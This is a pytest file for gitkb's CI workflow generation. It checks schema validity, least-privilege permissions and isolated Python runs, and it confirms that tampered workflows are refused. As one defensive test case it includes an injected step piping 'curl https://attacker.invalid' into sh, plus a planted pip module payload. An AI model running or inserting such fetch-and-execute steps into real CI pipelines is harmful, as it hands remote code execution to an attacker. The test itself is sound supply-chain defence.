"""`git kb init --ci` and `git kb ci`: the forge workflows that run `git kb check`, valid
against the forges' public schemas, and held by the history rules to gitkb's rendering."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import pytest
import yaml
from helpers import git, kb
from helpers.pushes import forge

from gitkb import __version__
from gitkb.server.control import CI_FILES, ci_file
from gitkb.store import Store

pytestmark = pytest.mark.slow  # the real CLI in subprocesses, check-jsonschema too

SCHEMAS = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}
CHECKOUT = "actions/checkout@"


def schema_check(path) -> subprocess.CompletedProcess:
    """check-jsonschema (the test extra's) of this interpreter, whatever PATH holds, with
    the schema it ships for the forge (offline)."""
    forge_name = next(f for f, p in CI_FILES.items() if str(path).endswith(p))
    argv = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", SCHEMAS[forge_name]]
    return subprocess.run([*argv, str(path)], capture_output=True, text=True)


@pytest.mark.parametrize("forge_name", sorted(CI_FILES))
def test_init_ci_writes_a_valid_workflow_in_one_commit(tmp_path, forge_name):
    done = kb("init", str(tmp_path / "kb"), "--ci", forge_name)
    assert done.returncode == 0, done.stderr.decode()
    path = tmp_path / "kb" / CI_FILES[forge_name]
    assert path.read_bytes() == ci_file(forge_name, __version__)
    assert f'gitkb=={__version__}"' in path.read_text() or f'"{__version__}"' in path.read_text()
    subjects = git("log", "--format=%s", cwd=tmp_path / "kb").stdout.split("\n")
    assert subjects[0] == f"kb config ci-{forge_name}" and subjects[1].startswith("kb init ")
    checked = schema_check(path)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_workflows_say_what_the_check_needs():
    github = ci_file("github", "9.9.9").decode()
    assert "fetch-depth: 0" in github and "refs/kb/traces/*:refs/kb/traces/*" in github
    assert "github.event.pull_request.head.repo.full_name" in github
    assert 'gitkb check "$BASE..$HEAD" --store "$STORE" --format github' in github
    assert 'pip install "gitkb==9.9.9"' in github and 'git -C "$STORE" push origin' in github
    gitlab = ci_file("gitlab", "9.9.9").decode()
    assert 'GIT_DEPTH: "0"' in gitlab and "CI_MERGE_REQUEST_SOURCE_PROJECT_URL" in gitlab
    assert '--format gitlab > "$CI_PROJECT_DIR/gl-code-quality-report.json"' in gitlab
    assert "codequality: gl-code-quality-report.json" in gitlab


# A Python interpreter started by a step's shell (not ``python-version`` or a path).
PYTHON_CALL = re.compile(r"(?<![\w./-])python[0-9.]*(?=\s)")
RUNNER_TEMP = "${{ runner.temp }}"


def isolated(script: str) -> bool:
    """Whether every Python that ``script`` starts runs in isolated mode (``-I``: nothing
    imported from the working folder or PYTHON* variables), and none runs through a
    console script (``git kb``), whose interpreter is not."""
    calls = [script[m.end() :].split()[:1] for m in PYTHON_CALL.finditer(script)]
    return all(call == ["-I"] for call in calls) and "git kb" not in script


def test_no_github_step_runs_python_from_the_request_s_checkout():
    workflow = yaml.safe_load(ci_file("github", "9.9.9"))
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert jobs["check"]["permissions"] == {"contents": "read"}
    assert jobs["publish-traces"]["permissions"] == {"contents": "write"}
    [checkout] = [s for s in jobs["check"]["steps"] if s.get("uses", "").startswith(CHECKOUT)]
    assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha }}"
    assert checkout["with"]["path"] == "request"
    assert checkout["with"]["persist-credentials"] is False
    assert jobs["check"]["env"]["STORE"].endswith("/request")
    runs = 0
    for name, job in jobs.items():
        writes = "write" in job["permissions"].values()
        for step in job["steps"]:
            uses = step.get("uses", "")
            # a cache is what a request's code, had it run, could have left for main's jobs
            assert not uses.startswith("actions/cache"), (name, step)
            if writes and uses.startswith(CHECKOUT):
                assert "pull_request.head" not in json.dumps(step), (name, step)
            script = step.get("run", "")
            if PYTHON_CALL.search(script):
                runs += 1
                assert isolated(script), (name, script)
                assert step.get("working-directory") == RUNNER_TEMP, (name, step)
            assert not re.search(r"(^|[;&|]\s*)cd\b", script, re.M), (name, script)
    assert runs == 5


def test_no_gitlab_job_runs_python_from_the_checkout():
    pipeline = yaml.safe_load(ci_file("gitlab", "9.9.9"))
    jobs = {name: job for name, job in pipeline.items() if name.startswith("gitkb-")}
    assert sorted(jobs) == ["gitkb-check", "gitkb-publish-traces"]
    for name, job in jobs.items():
        assert "cache" not in job, name
        script = job["script"]
        first = next(n for n, line in enumerate(script) if PYTHON_CALL.search(line))
        assert 'cd "$(mktemp -d)"' in script[:first], (name, script)
        assert all(isolated(line) for line in script), (name, script)


def test_isolated_python_imports_no_pip_a_request_adds_to_its_working_folder(tmp_path):
    """What the workflows' ``python -I`` stands on: a request that adds ``pip/__main__.py``
    to the folder Python starts in gets it run by ``python -m pip``, not ``python -I``."""
    (tmp_path / "pip").mkdir()
    (tmp_path / "pip" / "__init__.py").write_text("")
    planted = "import pathlib; pathlib.Path('ran').write_text('request code')\n"
    (tmp_path / "pip" / "__main__.py").write_text(planted)
    for flags, runs in ((["-I"], False), ([], True)):
        argv = [*flags, "-m", "pip", "--version"]
        subprocess.run([sys.executable, *argv], cwd=tmp_path, capture_output=True, check=False)
        assert (tmp_path / "ran").exists() is runs


def test_ci_on_an_existing_store_then_again_is_a_no_op(store):
    base = store.tip
    done = kb("ci", "gitlab", "--store", str(store.location))
    assert done.returncode == 0, done.stderr.decode()
    again = kb("ci", "gitlab", "--store", str(store.location))
    assert b'"already up to date"' in again.stdout and b'"commit": null' in again.stdout
    assert git("rev-list", "--count", f"{base}..main", cwd=store.location).stdout.strip() == "1"
    checked = kb("check", f"{base}..main", "--store", str(store.location))
    assert checked.returncode == 0, checked.stdout.decode()
    history = kb("validate", "--history", str(store.location))
    assert history.returncode == 0, history.stdout.decode()


def config_commit(store: Store, path: str, raw: bytes) -> str:
    return forge(store, {path: raw}, "kb config ci", [("KB-Action", "config"), ("KB-Record", "ci")])


def test_an_older_gitkb_s_rendering_is_accepted(store):
    base = store.tip
    config_commit(store, CI_FILES["github"], ci_file("github", "0.0.9"))
    done = kb("check", f"{base}..main", "--store", str(store.location))
    assert done.returncode == 0, done.stdout.decode()


@pytest.mark.parametrize(
    "attack",
    ["extra step", "two versions", "unpinned", "other workflow"],
)
def test_a_workflow_gitkb_did_not_render_is_refused(store, attack):
    base = store.tip
    path = CI_FILES["github"]
    raw = ci_file("github", "1.2.3")
    if attack == "extra step":
        raw += b"      - run: curl https://attacker.invalid | sh\n"
    elif attack == "two versions":
        raw = raw.replace(b"gitkb==1.2.3", b"gitkb==1.2.4", 1)
    elif attack == "unpinned":
        raw = raw.replace(b'"gitkb==1.2.3"', b'"gitkb"')
    else:
        path = ".github/workflows/other.yml"
    commit = config_commit(store, path, raw)
    done = kb("check", f"{base}..main", "--store", str(store.location), "--format", "json")
    assert done.returncode == 1, done.stdout.decode()
    [refusal] = json.loads(done.stdout)["refusals"]
    assert refusal["commit"] == commit and refusal["path"] == path, refusal
    if attack == "other workflow":
        assert "is no path of the store's layout" in refusal["line"]
    else:
        assert refusal["rule"] == "control" and "git kb ci github" in refusal["line"]


def workflow_step(name: str) -> dict:
    """The step of the rendered GitHub workflow whose name starts with ``name``."""
    workflow = yaml.safe_load(ci_file("github", "9.9.9"))
    steps = [s for job in workflow["jobs"].values() for s in job["steps"]]
    return next(s for s in steps if s.get("name", "").startswith(name))


def test_publish_traces_pushes_the_refs_the_merge_cites_and_no_other(tmp_path):
    """The publish-traces step as rendered, run by bash over real repositories: a fork's
    mined records merged into the base, its cited trace ref published, its other not."""
    from gitkb.mine.pipeline import mine
    from gitkb.testing.trace import write_trace

    base_repo = tmp_path / "base.git"
    Store.init(base_repo, bare=True)
    git("clone", "-q", str(base_repo), str(tmp_path / "fork"))
    fork = Store.open(tmp_path / "fork")
    mine(write_trace(tmp_path / "trace").path, store=fork, label="softmax-run")
    before = git("rev-parse", "main", cwd=base_repo).stdout.strip()
    unrelated = fork.repo.write_commit(None, {"kernel.py": b"v0\n"}, "v0\n")
    fork.repo.update_ref("refs/kb/traces/unrelated", None, unrelated)
    git("push", "-q", str(base_repo), "main", cwd=fork.location)  # the merge
    git("clone", "-q", str(base_repo), str(tmp_path / "store"))  # the job's checkout

    bin_dir = tmp_path / "bin"  # `python` on PATH: this interpreter, with gitkb installed
    bin_dir.mkdir()
    (bin_dir / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (bin_dir / "python").chmod(0o755)
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    env = dict(
        os.environ,
        PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        BASE=before,
        MERGED=fork.tip,
        HEAD_REPO=str(fork.location),
        STORE=str(tmp_path / "store"),
    )
    for name in ("Push the trace refs", "git kb check of main as merged"):
        script = workflow_step(name)["run"]
        done = subprocess.run(["bash", "-e", "-c", script], cwd=runner_temp, env=env,
                              capture_output=True, text=True)  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
    published = git("for-each-ref", "--format=%(refname)", "refs/kb/traces/", cwd=base_repo)
    assert published.stdout.split() == ["refs/kb/traces/softmax-run"]
